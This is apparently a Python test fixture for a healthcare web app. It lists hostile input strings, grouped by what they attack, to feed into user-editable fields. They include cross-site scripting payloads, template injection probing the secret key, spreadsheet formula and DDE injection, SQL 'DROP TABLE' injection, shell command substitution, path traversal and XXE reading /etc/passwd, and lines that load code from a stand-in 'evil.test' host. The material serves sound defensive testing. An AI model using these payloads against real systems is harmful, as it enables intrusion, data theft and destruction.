"""Hostile texts for every place where an editor or a patient can write, by what they attack.

None has a line break, so that a page's structure is the same with and without them, and
none a NUL, which forms refuse and PostgreSQL cannot store (it is tested on its own).
"""

TAGS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<form action=//evil.test><input name=phone></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>x</x>",
    "<a href=# onclick=alert(1)>x</a>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
]
ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=`alert(1)",
    '" style="position:fixed;inset:0" x="',
    '"/><svg/onload=alert(1)>',
    "x onerror=alert(1) y",
    '\\" onclick=\\"alert(1)',
]
ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&quot; onclick=&quot;alert(1)",
    "&NewLine;&Tab;javascript&colon;alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%00<b>%0d%0aSet-Cookie:x=1",
]
SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=1em>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.test/x",
    "https://evil.test/?q=<script>",
    "http://www.evil.test www.evil.test evil@evil.test",
    "javascript://physiocare.example/%0aalert(1)",
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% include 'x' %}",
    "{% debug %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%(name)s %s %d {0} {name}",
]
UNICODE_TRICKS = [
    "\u202etpircs\u202c<b>",
    "\u2066<i>\u2069\u200f",
    "\ufeff<script>alert(1)</script>",
    "\u200b<scr\u200bipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u2028alert(1)\u2029",
    "<ſcript>alert(1)</ſcript>",
    "\ufffe\uffff<b>",
    "\x0b\x7f<b>\x1b[31m",
    "e\u0301\u0301\u0301\u0301<u>",
    "😀</b>👩‍⚕️",
    "दर्द<script>alert(1)</script>",
    "İ<ı onclick=alert(1)>",
]
JSON_BREAKERS = [
    '"}]}</script><script>alert(1)</script>',
    '\\"}; alert(1); //',
    "</script >",
    "<!--<script>",
    "\\",
    '{"@type": "Person"}',
    "]]>",
    "__proto__",
    "*/alert(1)/*",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.test","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    '"=1+1","x',
    ";=1+1",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "![x](http://evil.test/x.png)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<http://evil.test>",
    "# heading",
    "- item",
    "1. item",
    "> quotation",
    "```js",
    "~~~",
    "***bold***",
    "---",
    "| a | b |",
    "\\[x](http://evil.test)",
    "[^1]: note",
    "`code` <b>",
]
SQL_AND_SHELL = [
    "'; DROP TABLE articles_reference; --",
    "' OR '1'='1",
    "$(touch x) `touch x` ; |",
    "../../../../etc/passwd",
]
VECTORS = [
    *TAGS,
    *ATTRIBUTES,
    *ENTITIES,
    *SVG_AND_MATHML,
    *ADDRESSES,
    *TEMPLATES,
    *UNICODE_TRICKS,
    *JSON_BREAKERS,
    *FORMULAS,
    *MARKDOWN,
    *SQL_AND_SHELL,
]


def packed(texts: list[str], limit: int) -> list[str]:
    """The texts joined by spaces into as few texts as possible of at most `limit` characters."""
    found: list[str] = []
    for text in texts:
        if found and len(found[-1]) + len(text) < limit:
            found[-1] = f"{found[-1]} {text}"
        else:
            found.append(text)
    return found
